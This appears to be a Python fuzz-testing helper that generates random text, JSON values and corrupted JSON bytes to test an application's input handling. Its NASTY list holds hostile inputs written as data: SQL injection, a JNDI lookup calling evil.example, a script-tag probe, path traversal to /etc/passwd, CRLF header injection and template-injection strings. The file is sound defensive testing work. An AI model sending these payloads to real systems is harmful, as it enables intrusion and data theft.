"""Random texts and JSON: mostly what somebody might send, often what nobody should."""

from collections.abc import Sequence
from random import Random
from typing import Any

NASTY = (
    "",
    " ",
    "null",
    "\x00",
    "a\x00b",
    "\x1b[31m",
    "\u202egnp.exe",
    "\ufeff",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "Ünï©ode ﷽ ‮",
    "а\u0300dmin@acme.example",
    "ＡＤＭＩＮ@acme.example",
    "admin@acme.example\u0000",
    "'; DROP TABLE users.accounts; --",
    "' OR '1'='1",
    "$1",
    "%s%s%n",
    "{0.__class__.__mro__}",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "a" * 200,
    "é" * 5_000,
    "x" * 70_000,
    "-1",
    "0",
    "1e309",
    "9" * 20,
    "NaN",
    "true",
    "[]",
    "{}",
    "2026-02-30T25:61:61Z",
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59+14:00",
    "00000000-0000-0000-0000-000000000000",
    "ffffffff-ffff-ffff-ffff-ffffffffffff",
    "{00000000000000000000000000000000}",
    "\r\nX-Injected: yes",
    "%0d%0aX-Injected:%20yes",
    'W/"0", *',
)

NUMBERS = (0, -1, 1, 2, 7, 49, 50, 51, 100, 101, 2**31 - 1, 2**31, -(2**31), 2**53, 2**63 - 1, -(2**63), 2**64 - 1)
FLOATS = (0.0, -0.0, 0.1, 1e-320, 1e308, -1e308, 2.5)

RAW_JSON = (
    b"",
    b"{",
    b"[",
    b"null",
    b"true",
    b'""',
    b"0",
    b"[]",
    b"{}",
    b"[{}]",
    b"NaN",
    b'{"a": NaN}',
    b'{"a": Infinity}',
    b'{"a": 1, "a": 2}',
    b'{"a": 1e999}',
    b'{"query": 1' + b"0" * 5_000 + b"}",
    b'{"variables": {"a": ' + b"9" * 4_400 + b"}}",
    b'{"variables": {"a": -' + b"9" * 19 + b"}}",
    b'{"a": "\\ud800"}',
    b'{"a": "\\u0000"}',
    b'{"\\u0000": 1}',
    b"\xef\xbb\xbf{}",
    '{"a": 1}'.encode("utf-16"),
    b"\xff\xfe\xfd",
    b"\x00" * 100,
    b"[" * 2_000 + b"]" * 2_000,
    b'{"a":' * 900 + b"1" + b"}" * 900,
    b'{"a":' * 2_000 + b"1" + b"}" * 2_000,
    b"{" + b" " * 100_000 + b"}",
    b'{"a": "' + b"x" * 1_000_001 + b'"}',
)


class Words:
    """Draws values. ``known`` are words that mean something here: slugs, ids, names of fields, addresses."""

    def __init__(self, random: Random) -> None:
        self._random = random
        self.known: Sequence[str] = ("woop",)

    def text(self) -> str:
        """A text."""
        drawn = self._random.random()
        if drawn < 0.55:
            return self._random.choice(self.known)
        if drawn < 0.85:
            return self._random.choice(NASTY)
        length = self._random.choice((1, 3, 8, 40))
        return "".join(chr(self._point()) for _ in range(length))

    def json(self, depth: int = 3) -> Any:
        """A JSON value."""
        match self._random.randrange(8 if depth else 6):
            case 0:
                return None
            case 1:
                return self._random.choice((True, False))
            case 2:
                return self._random.choice(NUMBERS)
            case 3:
                return self._random.choice(FLOATS)
            case 4 | 5:
                return self.text()
            case 6:
                return [self.json(depth - 1) for _ in range(self._random.choice((0, 1, 2, 60)))]
            case _:
                return {self.text(): self.json(depth - 1) for _ in range(self._random.randrange(4))}

    def mangled(self, raw: bytes) -> bytes:
        """The same bytes with a few of them changed, lost, doubled or added."""
        found = bytearray(raw)
        for _ in range(self._random.randrange(1, 6)):
            at = self._random.randrange(len(found) + 1)
            match self._random.randrange(5):
                case 0:
                    found[at:at] = self._random.randbytes(self._random.randrange(1, 4))
                case 1:
                    del found[at : at + self._random.choice((1, 1, 2, 30))]
                case 2 if at < len(found):
                    found[at] ^= 1 << self._random.randrange(8)
                case 3:
                    found[at:at] = found[max(0, at - self._random.randrange(40)) : at]
                case _:
                    found[at:at] = self._random.choice(
                        (b'"', b"{", b"}", b"[", b",", b"\\", b"\x00", b"\xf0\x9f", b"#")
                    )
        return bytes(found)

    def _point(self) -> int:
        point = self._random.choice((self._random.randrange(128), self._random.randrange(0x3000), 0x1F600))
        return point if not 0xD800 <= point < 0xE000 else 0x61
